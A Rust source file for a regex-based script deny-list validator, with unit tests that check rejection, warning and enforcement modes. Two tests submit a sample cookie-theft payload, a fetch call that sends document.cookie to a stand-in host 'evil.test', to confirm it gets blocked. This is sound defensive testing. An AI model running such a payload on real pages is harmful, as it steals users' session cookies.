//! Script Validator (component H): a statically loaded deny-list of regex
//! patterns applied to every script submitted through the execute contract.
//!
//! Grounded on the Python original's `ScriptValidator`/`ForbiddenPattern`
//! (`backend/core/security/script_validator.py`): patterns carry a
//! `category`, a human `reason`, and a `severity` of `error | warning`,
//! loaded once from a bundled resource and compiled up front rather than
//! per-call. The original loads a YAML config reachable via a module-root
//! singleton (`get_validator()`); this crate replaces that reach-for-a-global
//! with an explicit value the Fleet Manager owns, and swaps YAML for the
//! teacher's TOML idiom (`config::storage` round-trips `AppConfig` the same
//! way), baked in via `include_str!` so there's no install-time resource to
//! lose track of.

use crate::error::{FleetError, Result};
use regex::RegexBuilder;
use serde::Deserialize;

const PATTERNS_TOML: &str = include_str!("forbidden_script_patterns.toml");

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Severity {
    Error,
    Warning,
}

#[derive(Debug, Deserialize)]
struct RawPattern {
    pattern: String,
    reason: String,
    severity: Severity,
    category: String,
}

#[derive(Debug, Deserialize, Default)]
struct RawConfig {
    #[serde(default)]
    patterns: Vec<RawPattern>,
}

struct CompiledPattern {
    regex: regex::Regex,
    reason: String,
    severity: Severity,
    category: String,
}

/// One matched violation, reported back to the caller for logging/assertion.
#[derive(Debug, Clone)]
pub struct Violation {
    pub category: String,
    pub reason: String,
    pub severity: Severity,
    pub matched_text: String,
}

/// Outcome of validating a script: every matched pattern, split by severity,
/// plus whether the script is allowed to run given the current policy.
#[derive(Debug, Clone, Default)]
pub struct ValidationResult {
    pub allowed: bool,
    pub violations: Vec<Violation>,
}

impl ValidationResult {
    pub fn errors(&self) -> impl Iterator<Item = &Violation> {
        self.violations.iter().filter(|v| v.severity == Severity::Error)
    }

    pub fn warnings(&self) -> impl Iterator<Item = &Violation> {
        self.violations.iter().filter(|v| v.severity == Severity::Warning)
    }
}

/// Compiles the bundled pattern set once and matches every submitted script
/// against it. `enforce = false` keeps logging violations without rejecting
/// anything, for dry-run rollout of new patterns; `warnings_are_errors`
/// promotes `warning` matches to rejections.
pub struct ScriptValidator {
    patterns: Vec<CompiledPattern>,
    pub enforce: bool,
    pub warnings_are_errors: bool,
}

impl ScriptValidator {
    /// Load and compile the bundled pattern set.
    pub fn load() -> Result<Self> {
        let raw: RawConfig = toml::from_str(PATTERNS_TOML)?;
        let mut patterns = Vec::with_capacity(raw.patterns.len());
        for p in raw.patterns {
            let regex = RegexBuilder::new(&p.pattern)
                .case_insensitive(true)
                .multi_line(true)
                .build()
                .map_err(|e| FleetError::Config(format!("invalid script validator pattern {:?}: {}", p.pattern, e)))?;
            patterns.push(CompiledPattern { regex, reason: p.reason, severity: p.severity, category: p.category });
        }
        Ok(Self { patterns, enforce: true, warnings_are_errors: false })
    }

    /// Match `script` against every compiled pattern and tally the result.
    /// Purely syntactic on the source string; semantics are never interpreted.
    pub fn validate(&self, script: &str) -> ValidationResult {
        let mut violations = Vec::new();
        for p in &self.patterns {
            if let Some(m) = p.regex.find(script) {
                violations.push(Violation {
                    category: p.category.clone(),
                    reason: p.reason.clone(),
                    severity: p.severity,
                    matched_text: m.as_str().to_string(),
                });
            }
        }

        let has_errors = violations.iter().any(|v| v.severity == Severity::Error);
        let has_warnings = violations.iter().any(|v| v.severity == Severity::Warning);
        let allowed = if self.enforce { !has_errors && !(self.warnings_are_errors && has_warnings) } else { true };

        ValidationResult { allowed, violations }
    }

    /// Validate and fail with `ScriptForbidden` naming every rejecting
    /// violation if the script is not allowed.
    pub fn validate_or_reject(&self, script: &str) -> Result<ValidationResult> {
        let result = self.validate(script);
        if !result.allowed {
            let rejecting: Vec<&Violation> =
                if self.warnings_are_errors { result.violations.iter().collect() } else { result.errors().collect() };
            let detail = rejecting
                .iter()
                .map(|v| format!("[{}] {} (matched {:?})", v.category, v.reason, v.matched_text))
                .collect::<Vec<_>>()
                .join("; ");
            return Err(FleetError::ScriptForbidden(detail));
        }
        for warning in result.warnings() {
            tracing::warn!(category = %warning.category, reason = %warning.reason, matched = %warning.matched_text, "script validation warning");
        }
        Ok(result)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_load_compiles_bundled_patterns() {
        let validator = ScriptValidator::load().unwrap();
        assert!(!validator.patterns.is_empty());
    }

    #[test]
    fn test_benign_script_is_allowed() {
        let validator = ScriptValidator::load().unwrap();
        let result = validator.validate("document.title");
        assert!(result.allowed);
        assert!(result.violations.is_empty());
    }

    #[test]
    fn test_document_cookie_exfiltration_is_rejected() {
        let validator = ScriptValidator::load().unwrap();
        let err = validator.validate_or_reject("fetch('https://evil.test/steal?c=' + document.cookie)").unwrap_err();
        assert_eq!(err.code(), "ScriptForbidden");
    }

    #[test]
    fn test_warning_pattern_does_not_reject_by_default() {
        let validator = ScriptValidator::load().unwrap();
        let result = validator.validate("eval('2 + 2')");
        assert!(result.allowed);
        assert!(result.warnings().count() >= 1);
    }

    #[test]
    fn test_warnings_are_errors_promotes_rejection() {
        let mut validator = ScriptValidator::load().unwrap();
        validator.warnings_are_errors = true;
        let result = validator.validate("eval('2 + 2')");
        assert!(!result.allowed);
    }

    #[test]
    fn test_enforce_false_logs_but_never_rejects() {
        let mut validator = ScriptValidator::load().unwrap();
        validator.enforce = false;
        let result = validator.validate("fetch('https://evil.test/steal?c=' + document.cookie)");
        assert!(result.allowed);
        assert!(!result.violations.is_empty());
    }

    #[test]
    fn test_case_insensitive_matching() {
        let validator = ScriptValidator::load().unwrap();
        let result = validator.validate("EVAL(\"x\")");
        assert!(result.warnings().count() >= 1);
    }
}
